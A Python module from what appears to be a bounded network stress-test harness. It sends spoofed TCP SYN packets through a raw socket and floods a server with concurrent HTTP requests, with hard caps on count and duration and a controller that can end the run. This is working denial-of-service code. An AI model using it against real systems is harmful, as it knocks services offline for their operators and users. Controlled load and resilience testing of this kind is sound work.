"""Ask a server for more than it can give, within bounds: connections that are never completed, or
many requests at a time.
"""

from __future__ import annotations

import http.client
import ipaddress
import random
import socket
import threading
import time

from . import guard, packets

MAX_SYNS = 2000
MAX_REQUESTS, MAX_CONNECTIONS = 3000, 40
LONGEST_S = 15.0
CONNECT_S = 1.0
STARTED = 20  # requests that were answered or refused: from then on it counts as going on


def syns(told: dict[str, object], target: tuple[str, int]) -> None:
    """Send SYNs in the name of addresses of this network that nobody has."""
    network = ipaddress.IPv4Network(str(told["network"]))
    sources = [str(each) for each in told["sources"]]  # type: ignore[attr-defined] # a list, from JSON
    sources = [each for each in sources if ipaddress.IPv4Address(each) in network]
    chance = random.Random(int(str(told["seed"])))  # noqa: S311 -- numbers, the same each time
    count = min(int(str(told["count"])), MAX_SYNS)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for number in range(count):
            source = (sources[number % len(sources)], 20_000 + number)
            segment = packets.tcp(source, target, chance.getrandbits(32), 0, packets.SYN)
            raw.sendto(segment, (target[0], 0))
    guard.say(event="sent", syns=count)


class Requests:
    """Requests over several connections at a time, until there have been enough."""

    def __init__(self, target: tuple[str, int], path: str, left: int) -> None:
        self.target, self.path, self.left = target, path, left
        self.answered = self.failed = 0
        self.lock = threading.Lock()
        self.over = threading.Event()
        self.clock = guard.Clock(LONGEST_S)

    def run(self) -> None:
        """Ask until it is over; a connection is kept as long as the server keeps it."""
        link: http.client.HTTPConnection | None = None
        while not self.over.is_set() and self.clock.left:
            with self.lock:
                if not self.left:
                    return
                self.left -= 1
            link = link or http.client.HTTPConnection(*self.target, timeout=CONNECT_S)
            try:
                link.request("GET", self.path)
                link.getresponse().read()
                with self.lock:
                    self.answered += 1
            except (OSError, http.client.HTTPException):
                link.close()
                link = None
                with self.lock:
                    self.failed += 1


def requests(told: dict[str, object], target: tuple[str, int]) -> None:
    """Ask over and over until told to end."""
    work = Requests(target, str(told["path"]), min(int(str(told["count"])), MAX_REQUESTS))
    connections = min(int(str(told["connections"])), MAX_CONNECTIONS)
    threads = [threading.Thread(target=work.run, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    while work.answered + work.failed < STARTED and work.clock.left:
        time.sleep(0.01)
    guard.say(event="going")
    told_to_end = False
    while work.clock.left and any(thread.is_alive() for thread in threads) and not told_to_end:
        told_to_end = guard.told_to_end(0.05)
    work.over.set()
    for thread in threads:
        thread.join(2 * CONNECT_S)
    guard.say(event="sent", answered=work.answered, failed=work.failed, to_the_end=told_to_end)


def main() -> None:
    """Flood as the order says."""
    told = guard.take_order()
    target = (guard.address_of(told["targets"][told["server"]]), int(told["port"]))
    (syns if told["kind"] == "syns" else requests)(told, target)


if __name__ == "__main__":
    main()
